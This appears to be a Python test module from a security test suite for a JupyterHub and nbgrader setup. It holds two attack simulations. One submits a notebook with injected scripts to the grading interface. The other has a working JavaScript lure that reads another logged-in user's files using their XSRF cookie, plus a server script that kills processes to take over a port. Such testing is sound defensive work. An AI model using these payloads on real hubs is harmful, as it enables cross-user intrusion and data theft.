"""Attempts by a page: what she writes is opened in the browser of somebody who is logged in."""

from __future__ import annotations

import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress

import httpx
import nbformat
import psutil
from playwright.sync_api import Page

from benchmarks.visitor import Visitor
from tests.attacks.page import ATTACKS
from tests.cohort.hub.intrusion.ground import Ground, attempt, end, eventually
from tests.cohort.hub.intrusion.handing_in import handed_in
from tests.html.axe import chromium

_SECONDS = 120_000


@contextmanager
def opened(visitor: Visitor) -> Iterator[Page]:
    """A browser in which ``visitor`` is logged in to the hub."""
    with chromium() as browser:
        page = browser.new_page()
        page.set_default_timeout(_SECONDS)
        cookies = [
            {"name": one.name, "value": one.value or "", "domain": "127.0.0.1", "path": one.path}
            for one in visitor.browser.cookies.jar
        ]
        page.context.add_cookies(cookies)  # type: ignore[arg-type]
        yield page


@attempt("Hands in a notebook with scripts wherever a page may run them, which the facilitator opens in formgrader")
def run_scripts_in_the_formgrader(ground: Ground) -> str:
    notebook = nbformat.read(ground.works[ground.ann.name] / ground.practice, as_version=4)  # type: ignore[no-untyped-call]
    scripts = [one for one in ATTACKS if one.name in ("script-in-markdown", "script-in-outputs")]
    for one in scripts:
        if one.edit is not None:
            one.edit(notebook)
    text = nbformat.writes(notebook)  # type: ignore[no-untyped-call]
    with handed_in(ground, ground.ann.name, text=text):
        ground.bring()
        done = ground.run(ground.lead, *ground.grade)
        with closing(sqlite3.connect(f"file:{ground.desk / 'gradebook.db'}?mode=ro", uri=True)) as gradebook:
            found = gradebook.execute(
                "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON a.id = n.assignment_id "
                "WHERE a.student_id = ?",
                (ground.ann.name,),
            ).fetchone()
        if found is None:
            raise RuntimeError(f"It was not graded: {done.stdout[-2000:]}{done.stderr[-2000:]}")
        with opened(ground.lead) as page:
            page.goto(f"{ground.lead.address}/user/{ground.lead.name}/formgrader/submissions/{found[0]}/")
            page.locator(".panel, .nbgrader_cell, .jp-Cell, .cell").first.wait_for()
            page.wait_for_timeout(1000)
            return "a script of hers has run there" if page.evaluate("window.ran") == 1 else ""


_LURE = """<!doctype html><title>hers</title><button>Feedback</button><script>
async function go() {
  const seen = [], path = "/user/OTHER/", file = path + "api/contents/mine.txt";
  const wait = seconds => new Promise(done => setTimeout(done, seconds * 1000));
  const look = async work => { try { seen.push(String(await work())) } catch (fault) { seen.push(String(fault)) } };
  const other = window.open(path + "files/mine.txt"), lab = window.open(path + "lab");
  await look(async () => (await fetch(file)).text());
  await wait(5);
  await look(() => other.document.body.innerText);
  await look(async () => {
    const xsrf = /_xsrf=([^;]*)/.exec(lab.document.cookie)[1];
    return (await lab.fetch(file, {headers: {"X-XSRFToken": xsrf}})).text();
  });
  document.body.innerText = "seen: " + JSON.stringify(seen);
}
document.querySelector("button").addEventListener("click", go);
</script>"""
_SERVER = """
import http.server, os, signal, time
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write({lure!r})
http.server.ThreadingHTTPServer.allow_reuse_address = True
for _ in range(600):
    for process in {processes}:
        attack(process, lambda one: os.kill(one, signal.SIGKILL))
    attack("", lambda _: http.server.ThreadingHTTPServer(("127.0.0.1", {port}), Page).serve_forever())
    time.sleep(0.05)
"""


@attempt("Serves a page of hers in place of her server, and another who is logged in opens it and presses a button")
def lure_another(ground: Ground) -> str:
    lure = _LURE.replace("OTHER", ground.ben.name).encode()
    address = ground.cell("print(os.environ['JUPYTERHUB_SERVICE_URL'])").strip()
    port = httpx.URL(address).port
    assert port is not None
    serving = [one.pid for one in ground.processes_of(ground.ann) if _listens(one, port)]
    code = _SERVER.format(lure=lure, processes=serving, port=port)
    server = threading.Thread(target=ground.script, args=(code,))
    server.start()
    try:
        with opened(ground.ben) as page:
            eventually(lambda: _serves(ground), 20)
            page.goto(f"{ground.ben.address}/user/{ground.ann.name}/lab")
            if page.title() != "hers":
                raise RuntimeError(f"Her own page did not come, but {page.url}.")
            page.get_by_role("button").click()
            said = page.locator("body").filter(has_text="seen: ")
            said.wait_for()
            return ground.took("home", answer=said.inner_text())
    finally:
        end(ground.processes_of(ground.ann))
        server.join(30)
        ground.again()


def _listens(process: psutil.Process, port: int) -> bool:
    with suppress(psutil.Error):
        return any(one.status == "LISTEN" and one.laddr.port == port for one in process.net_connections())
    return False


def _serves(ground: Ground) -> bool:
    with suppress(httpx.HTTPError):
        return "<title>hers" in httpx.get(f"{ground.ann.address}/user/{ground.ann.name}/lab", trust_env=False).text
    return False
